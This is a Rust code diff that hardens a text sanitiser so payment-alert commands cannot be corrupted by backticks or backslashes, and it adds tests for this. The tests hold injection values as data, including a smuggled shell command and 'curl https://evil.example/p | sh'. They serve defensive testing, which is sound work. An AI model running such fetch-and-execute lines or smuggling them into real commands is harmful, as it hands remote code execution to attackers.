@@ -361,9 +361,12 @@ pub const BY_HAND: &str = "\u{1f}by hand: ";
 /// not fit whole is left out (the alert then gives the blank one).
 pub const MAX_DETAIL: usize = 2000;
 
-/// `text` with every control character replaced by U+FFFD.
+/// `text` with every control character, backtick and backslash replaced
+/// by U+FFFD: none is in a slug, an address or a Stripe id, and in an alert
+/// a backtick would end the command's code span early (and a backslash be
+/// read as an escape by chat apps), so that the owner copies something else.
 pub fn printable(text: &str) -> String {
-    text.chars().map(|c| if c.is_control() { '\u{fffd}' } else { c }).collect()
+    text.chars().map(|c| if c.is_control() || c == '`' || c == '\\' { '\u{fffd}' } else { c }).collect()
 }
 
 /// The detail recorded for a refused paid checkout: why, and the command
@@ -526,6 +529,15 @@ mod tests {
         assert!(shown.starts_with("clip x\u{fffd}by hand: curl"), "{shown:?}");
         assert!(command.starts_with("site-gen orders create PAY-"), "{command}");
         assert!(command.contains(" --clip 'x\u{fffd}by hand: curl https://evil.example/p | sh #'"), "{command}");
+
+        // A backtick or backslash would end the alert's code span early, or
+        // be read as an escape: replaced too.
+        let ticked = paid(&["`x' ; curl evil|sh #", "a\\'b"]);
+        let command = order_by_hand("stripe", &ticked, LinkTerms::DEFAULT);
+        assert!(!command.contains('`'), "the code span holds: {command}");
+        assert!(command.ends_with(" --clip '\u{fffd}x'\\'' ; curl evil|sh #' --clip 'a\u{fffd}'\\''b'"), "{command}");
+        assert!(!WebhookError::UnknownClip("`".into()).detail().is_empty());
+        assert!(!refusal_detail("clip ` is not in the catalog", None).contains('`'));
 
         // A command that would not fit whole is left out, never cut.
         let many: Vec<String> = (0..64).map(|i| format!("clip-with-a-long-slug-{i:02}:variant:licence")).collect();
